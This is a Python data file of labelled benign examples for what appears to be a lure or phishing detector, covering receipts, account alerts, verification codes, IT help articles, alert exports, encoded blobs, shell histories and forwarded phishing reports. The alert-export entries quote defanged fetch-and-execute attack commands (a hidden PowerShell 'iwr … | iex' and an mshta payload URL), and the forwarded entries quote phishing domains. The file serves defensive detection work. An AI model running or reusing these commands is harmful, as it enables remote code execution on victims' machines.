"""fpover18 texts that sit next to a lure's kind: genuine receipts, fraud alerts, sign-in alerts
and verification codes with phone numbers, IT's own paste instructions, alert exports, encoded
blobs in config, shell history, forwarded suspicious mail asking "is this real?" (own words)."""

RECEIPTS = [
    (
        "https://mail.google.com/",
        "other",
        "Thanks for your order!\nOrder #112-4456789-1234567 placed 3 December 2024\nLogitech MX Master 3S – £89.99\nArriving Friday 6 December\nView or manage your order in Your Orders. Questions about your order? Visit the Help pages or contact Customer Service through the app.",
    ),
    (
        "https://outlook.live.com/",
        "other",
        "Receipt from Apple\nAPPLE ACCOUNT: anna@example.com\nDATE: 3 Dec 2024   ORDER ID: MT2Q8KL9PZ\niCloud+ with 200 GB (Monthly)  £2.99\nIf you didn't make this purchase or have a question, visit reportaproblem.apple.com. You can manage subscriptions in Settings > [your name] > Subscriptions.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Your Microsoft 365 Family subscription renews on 15 January 2025 for £104.99/year. To change or cancel, go to https://account.microsoft.com/services before that date. This is a service email from Microsoft Corporation, One Microsoft Way, Redmond, WA 98052.",
    ),
    (
        "https://outlook.office.com/",
        "other",
        "Invoice INV-2024-1188 from Northwind Plumbing Ltd\nWork: replace kitchen mixer tap, labour 1.5 h\nTotal due: £186.00 by 18 December\nBank transfer: sort code 20-00-00, account 12345678, ref INV-2024-1188\nQuestions about this invoice? Call Dave on 0113 496 0581.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Your PayPal receipt\nYou sent £25.00 GBP to Sam Rivers (sam.rivers@example.com)\nTransaction ID 8AB12345CD678901E\nNote: concert tickets\nIf you have questions about this payment, contact the seller first; you can open a dispute in the Resolution Centre within 180 days.",
    ),
    (
        "https://mail.yahoo.com/",
        "other",
        "Booking confirmed – Hotel Alma, Lisbon\nCheck-in: Fri 13 Dec 2024 (from 15:00)  Check-out: Sun 15 Dec 2024 (until 11:00)\nConfirmation number: 4512.887.903  PIN: 2291\nNeed to contact the property? Call +351 21 555 0148. Free cancellation until 11 Dec 23:59.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Your Norton 360 Deluxe subscription was renewed on 02/12/2024. Amount charged: £84.99 to the card ending 1184. You can turn off automatic renewal or request a refund within 60 days from your Norton account at my.norton.com. Order number: 7745-1182-0091.",
    ),
    (
        "https://outlook.live.com/",
        "other",
        "Hi Anna, your Geek Squad appointment is confirmed for Sat 7 Dec, 10:00-12:00, at the Leeds store (White Rose Centre). Please bring your laptop charger and your Windows sign-in details. Need to reschedule? Call the store on 0113 496 0702.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Bestellbestätigung\nVielen Dank für Ihre Bestellung Nr. 302-4478812 vom 03.12.2024.\nArtikel: Bosch Akkuschrauber GSR 12V – 89,99 €\nVoraussichtliche Lieferung: 06.12.2024\nFragen zu Ihrer Bestellung? Unser Kundenservice ist unter 0800 363 8469 erreichbar (kostenlos, Mo–Sa 8–20 Uhr).",
    ),
    (
        "https://mail.orange.fr/",
        "other",
        "Confirmation de commande n° FR-88123-44\nMerci pour votre achat : Casque Sony WH-1000XM5 – 329,00 €\nLivraison prévue le 06/12. Une question sur votre commande ? Contactez notre service client au 09 70 80 90 00 (appel non surtaxé).",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Confirmación de pedido n.º ES-44512. Gracias por tu compra: Cafetera De'Longhi – 129,99 €. Entrega estimada: 5-6 de diciembre. ¿Dudas con tu pedido? Llámanos al 910 555 017 de lunes a viernes de 9 a 21 h.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Conferma d'ordine n. IT-77120 – Grazie per il tuo acquisto: Aspirapolvere Dyson V12 – 549,00 €. Consegna prevista: 9 dicembre. Per domande sul tuo ordine chiama il numero 02 5555 0123 (lun-ven 9-18).",
    ),
]

ALERTS = [
    (
        "https://mail.google.com/",
        "other",
        "Fraud alert from Barclaycard: did you try to spend £649.00 at CURRYS ONLINE on 03/12? Reply YES if it was you or NO if not. If you reply NO we'll block your card and call you. We will never ask you to move money or share a one-time passcode.",
    ),
    (
        "https://outlook.live.com/",
        "other",
        "Chase Fraud Alert: Did you use card ending 4401 for $1,210.00 at BESTBUY.COM on Dec 3? Reply Y or N. To speak to us, call the number on the back of your card. Chase will never call you asking for a code.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Security alert\nNew sign-in to your Google Account on a Windows device\nanna.k@gmail.com\nIf this was you, you don't need to do anything. If not, we'll help you secure your account: https://myaccount.google.com/notifications\nYou can also see security activity at https://myaccount.google.com/notifications",
    ),
    (
        "https://outlook.live.com/",
        "other",
        "Microsoft account unusual sign-in activity\nWe detected something unusual about a recent sign-in to the Microsoft account an***@outlook.com.\nSign-in details: Country/region: Netherlands, IP address: 145.53.0.11, Date: 03/12/2024 21:14 (GMT)\nPlease go to your recent activity page to let us know whether or not this was you: https://account.live.com/activity",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Your Amazon password has been changed. If you made this change, you don't need to do anything. If you didn't change your password, please go to Your Account > Login & Security to reset it, and contact customer service from the Help page.",
    ),
    (
        "https://outlook.office.com/",
        "other",
        "[Action required] Your device ACME-LT-0443 is not compliant with company policy: BitLocker is off. Open Company Portal > Devices > ACME-LT-0443 > Check status, and follow the steps. If it is still not compliant in 3 days, access to email will be blocked. IT Service Desk: ext. 4400.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Your Dropbox account is almost full (98% of 2 GB). Delete files or upgrade to keep syncing. Manage your space at https://www.dropbox.com/account/plan.",
    ),
    (
        "https://outlook.live.com/",
        "other",
        "HMRC: your Self Assessment tax return is due by 31 January 2025. Sign in to your HMRC online account at www.gov.uk/log-in-file-self-assessment-tax-return. HMRC will never ask for personal or payment information by text or email. Helpline: 0300 200 3310.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Ihr Konto wurde vorübergehend gesperrt, nachdem dreimal eine falsche PIN eingegeben wurde. Sie können die Sperre im Online-Banking unter Service > PIN entsperren aufheben oder uns unter 069 5555 0100 anrufen. Wir fragen Sie niemals nach TANs.",
    ),
    (
        "https://mail.orange.fr/",
        "other",
        "Alerte sécurité : une connexion à votre espace client depuis un nouvel appareil (Windows, Paris) a eu lieu le 03/12 à 21h14. Si c'est bien vous, aucune action n'est requise. Sinon, changez votre mot de passe dans Mon compte > Sécurité.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Su tarjeta terminada en 7781 ha sido bloqueada temporalmente por seguridad tras un intento de compra no habitual. Para desbloquearla, entre en la app > Tarjetas > Desbloquear o llame al 900 555 012. Nunca le pediremos claves por SMS.",
    ),
    (
        "https://mail.google.com/",
        "other",
        "Outlook: Your mailbox is 95% full. When it's full you won't be able to send or receive email. Empty Deleted Items and archive old mail, or ask IT for a larger mailbox via the service portal.",
    ),
]

CODES = [
    (None, "other", "Your Microsoft verification code is 482913. Don't share it with anyone."),
    (None, "other", "G-318274 is your Google verification code."),
    (None, "other", "WhatsApp code: 214-557. Don't share this code with others. 4sgLq1p5sV6"),
    (
        None,
        "other",
        "Ihr Bestätigungscode lautet 604218. Geben Sie ihn nicht weiter. Ihre Sparkasse",
    ),
    (
        None,
        "other",
        "Votre code de vérification est 771203. Ne le communiquez à personne, même pas à un conseiller.",
    ),
    (None, "other", "Tu código de verificación es 339104. No lo compartas con nadie."),
    (None, "other", "Il tuo codice di verifica è 558210. Non condividerlo con nessuno."),
    (None, "other", "Seu código de verificação é 902177. Não compartilhe com ninguém."),
    (None, "other", "Uw verificatiecode is 118540. Deel deze code met niemand."),
    (None, "other", "Twój kod weryfikacyjny to 661092. Nie udostępniaj go nikomu."),
    (None, "other", "Doğrulama kodunuz 447812. Bu kodu kimseyle paylaşmayın."),
    (None, "other", "Ваш код подтверждения: 281944. Никому не сообщайте этот код."),
    (None, "other", "認証コード：551093。このコードを他人に教えないでください。"),
    (None, "other", "您的验证码为 730218，5分钟内有效。请勿泄露给他人。"),
    (None, "other", "رمز التحقق الخاص بك هو 664120. لا تشاركه مع أي شخص."),
    (
        None,
        "other",
        "Use code 9FQ2-7KLM to sign in to your Steam account from a new device. If this wasn't you, change your password at store.steampowered.com.",
    ),
]

IT_PASTE = [
    (
        "https://intranet.acme.example/it/kb/0142",
        "other",
        "KB0142 – Map the team drive\n1. Press Windows + R.\n2. Paste \\\\fs01.corp.acme.example\\teams\\marketing and press Enter.\n3. When the folder opens, right-click it in the address bar and choose Map network drive, letter M:.",
    ),
    (
        "https://intranet.acme.example/it/kb/0211",
        "other",
        "KB0211 – Outlook keeps asking for a password\nClose Outlook, press Win+R, paste the line below and press Enter, then start Outlook again:\nrundll32.exe keymgr.dll,KRShowKeyMgr\nRemove every entry that starts with MicrosoftOffice16_Data, then sign in once.",
    ),
    (
        "https://intranet.acme.example/it/kb/0305",
        "other",
        "Fix: Teams shows an old profile picture. Quit Teams from the tray, press Win+R, paste %appdata%\\Microsoft\\Teams and press Enter, delete the Cache and GPUCache folders, then start Teams.",
    ),
    (
        "https://acme.atlassian.net/wiki/spaces/IT/pages/88812/VPN",
        "other",
        'If the VPN says "certificate not found", open PowerShell (no admin needed) and paste:\ngpupdate /force; certutil -user -pulse\nThen restart the VPN client. This re-requests your user certificate from our CA.',
    ),
    (
        "https://acme.atlassian.net/wiki/spaces/IT/pages/90121/Mac",
        "other",
        "Mac: to re-enrol in Jamf, open Terminal and paste `sudo profiles renew -type enrollment`, type your Mac password (nothing shows while typing), then click the notification and follow the prompts.",
    ),
    (
        "https://intranet.acme.example/it/kb/0400",
        "other",
        "Sign in to the meeting-room display: on the Teams Room screen you'll see a code. On your laptop open https://microsoft.com/devicelogin, enter the code and sign in with the room account's credentials from the Facilities vault. Never do this for a code someone sends you.",
    ),
    (
        "https://intranet.acme.example/it/kb/0518",
        "other",
        "Printer drivers: IT has published the new Canon driver. Press Win+R, paste \\\\print01 and press Enter, then double-click Canon-Floor2. Windows installs the driver from our print server; no admin rights needed.",
    ),
    (
        "https://intranet.acme.example/it/kb/0602",
        "other",
        "Clear the Chrome SSO cookie loop: in Chrome's address bar paste chrome://settings/clearBrowserData, choose Cookies and other site data for the last hour, click Clear data, then sign in at https://myapps.microsoft.com again.",
    ),
    (
        "https://intranet.acme.example/it/kb/0701",
        "other",
        'To check which version of the security agent you have: Win+R → paste "C:\\Program Files\\CrowdStrike\\CSFalconService.exe" -version is not how it works; instead open Command Prompt and run sc query csagent. Send us the STATE line.',
    ),
]

EXPORTS = [
    (
        "https://security.microsoft.com/alerts/da638612345678901234_-1234567890",
        "other",
        '{\n  "alertId": "da638612345678901234_-1234567890",\n  "title": "Suspicious process executed PowerShell command",\n  "severity": "High",\n  "status": "Resolved",\n  "classification": "TruePositive",\n  "determination": "Malware",\n  "deviceName": "ws-0231.corp.acme.example",\n  "evidence": [\n    { "entityType": "Process", "fileName": "powershell.exe", "processCommandLine": "powershell.exe -w h -nop -c \\"iwr hxxps://verify-cdn[.]top/c | iex\\"" },\n    { "entityType": "Url", "url": "hxxps://verify-cdn[.]top/c" }\n  ]\n}',
    ),
    (
        None,
        "other",
        'Time                 | Device   | User      | Action          | Detail\n2024-12-03 09:11:58  | WS-0231  | j.moreno  | RegistryValueSet| RunMRU a = "powershell -w h -c iwr hxxps://verify-cdn[.]top/c|iex\\1"\n2024-12-03 09:11:59  | WS-0231  | j.moreno  | ProcessCreated  | powershell.exe (blocked by ASR)\n2024-12-03 09:12:03  | WS-0231  | SYSTEM    | AlertRaised     | Suspicious PowerShell command line',
    ),
    (
        None,
        "other",
        "EventID 4688 | NewProcessName C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe | ParentProcessName C:\\Windows\\CCM\\CcmExec.exe | CommandLine powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SystemTemp\\b1c2d3e4.ps1 | SubjectUserName WS-0231$",
    ),
    (
        "https://sentinel.acme.example/incidents/1187",
        "other",
        "Incident 1187 entities\nHost: WS-0412\nAccount: CORP\\l.kim\nProcess: mshta.exe hxxps://docs-share[.]click/p.hta\nIP: 91.92.240[.]11\nFile hash (SHA256): 3b7e2a1c9d8f0e6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a\nVerdict: true positive, contained 10:42",
    ),
]

BLOBS = [
    (
        "https://kubernetes.io/docs/concepts/configuration/secret/",
        "other",
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db-credentials\ntype: Opaque\ndata:\n  username: YWRtaW4=\n  password: MWYyZDFlMmU2N2Rm\n  config.json: eyJob3N0IjoiZGIuaW50ZXJuYWwiLCJwb3J0Ijo1NDMyLCJzc2wiOnRydWV9",
    ),
    (
        None,
        "other",
        "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\nRTESMBAGA1UEChMJQmFsdGltb3JlMRMwEQYDVQQLEwpDeWJlclRydXN0MSIwIAYD\nVQQDExlCYWx0aW1vcmUgQ3liZXJUcnVzdCBSb290MB4XDTAwMDUxMjE4NDYwMFoX\nDTI1MDUxMjIzNTkwMFowWjELMAkGA1UEBhMCSUUxEjAQBgNVBAoTCUJhbHRpbW9y\nZTETMBEGA1UECxMKQ3liZXJUcnVzdDEiMCAGA1UEAxMZQmFsdGltb3JlIEN5YmVy\nVHJ1c3QgUm9vdDCCASIwDQYJKoZIhvcNAQEBBQADggEPADCCAQoCggEBAKMEuyKr\n-----END CERTIFICATE-----",
    ),
    (
        None,
        "other",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx0b3Jlc3RhY2tzZXJ2ZXJrZXlmb3JkZXBsb3ltZW50 deploy@ci-runner-03",
    ),
    (
        "https://jwt.io/",
        "other",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_pwsh",
        "other",
        "$command = 'dir \"c:\\program files\" '\n$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n$encodedCommand = [Convert]::ToBase64String($bytes)\npwsh -encodedcommand $encodedCommand",
    ),
    (
        "https://cloudinit.readthedocs.io/en/latest/reference/modules.html#write-files",
        "other",
        "#cloud-config\nwrite_files:\n  - encoding: b64\n    content: IyBzc2hkIGJhbm5lcgpBdXRob3JpemVkIHVzZSBvbmx5Lgo=\n    owner: root:root\n    path: /etc/issue.net\n    permissions: '0644'",
    ),
    (
        None,
        "other",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAGXRFWHRTb2Z0d2FyZQBBZG9iZSBJbWFnZVJlYWR5ccllPAAAAUJJREFUeNqkU01Lw0AQnU1tUvPR1CZtU2trQYuCVfGgePHn+dsEfwQevAieBPGgFBTEVrTWfDTt5mM3bmoKUrDq4sEhLyfz5s2bN7MIwzCUhNjZjgkhqqoqSqfTkiRJgiAgiqJYXV0VQRDSMAwZhiGRSAQAABAEARBEAAIAhACgKApUIiLIdTpd6PV6H+xPfHd1dSWIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiI",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/seccrypto/certutil",
        "terminal",
        "certutil -decode cert.b64 cert.cer && certutil -dump cert.cer",
    ),
]

HISTORY = [
    (
        None,
        "other",
        "  501  cd ~/src/storefront\n  502  git pull --rebase\n  503  docker compose up -d db\n  504  curl -LsSf https://astral.sh/uv/install.sh | sh\n  505  uv sync\n  506  uv run pytest -q -x\n  507  git status\n  508  git commit -am 'fix flaky test'\n  509  git push\n  510  history | tail -20",
    ),
    (
        None,
        "other",
        "PS C:\\Users\\anna> Get-History\n\n  Id CommandLine\n  -- -----------\n   1 winget upgrade --all\n   2 Get-Service wuauserv\n   3 Restart-Service wuauserv\n   4 Test-NetConnection outlook.office365.com -Port 443\n   5 ipconfig /flushdns",
    ),
    (
        None,
        "other",
        "$ sudo apt update\nHit:1 http://archive.ubuntu.com/ubuntu noble InRelease\nGet:2 http://security.ubuntu.com/ubuntu noble-security InRelease [126 kB]\nGet:3 https://download.docker.com/linux/ubuntu noble InRelease [48.8 kB]\nFetched 175 kB in 1s (212 kB/s)\nReading package lists... Done\n12 packages can be upgraded. Run 'apt list --upgradable' to see them.",
    ),
    (
        None,
        "other",
        "$ curl -fsSL https://get.docker.com | sh\n# Executing docker install script, commit: 4c94a56999e10efcf48c5b8e3f6afea464f9108e\n+ sh -c apt-get -qq update >/dev/null\n+ sh -c DEBIAN_FRONTEND=noninteractive apt-get -y -qq install ca-certificates curl >/dev/null\n+ sh -c install -m 0755 -d /etc/apt/keyrings\n...\nClient: Docker Engine - Community\n Version:           27.3.1",
    ),
]

FORWARDED = [
    (
        None,
        "other",
        "Hi IT, is this legit? I got it this morning:\n\n> Your Microsoft 365 password expires today. Click here to keep your current password: hxxps://m365-keep-password[.]com\n\nI haven't clicked anything. Thanks, Joe",
    ),
    (
        None,
        "other",
        'Forwarding for the phishing mailbox — this came to 30 people in sales. Subject "Shared document: Q4 bonus". The link goes to a page on a random .xyz domain asking for our Microsoft login. Nobody in sales entered anything as far as I know.',
    ),
    (
        None,
        "other",
        'Reported via the Report Message button: "DHL: your parcel is waiting, pay £1.99 customs at dhl-redelivery-uk[.]info". Verdict: phishing. Blocked the domain and purged 14 copies.',
    ),
    (
        None,
        "other",
        'Thanks for reporting! The email you forwarded ("Your mailbox storage is full – verify now") is a phishing attempt. We\'ve blocked the sender. You did exactly the right thing by not clicking the link. — IT Security',
    ),
]
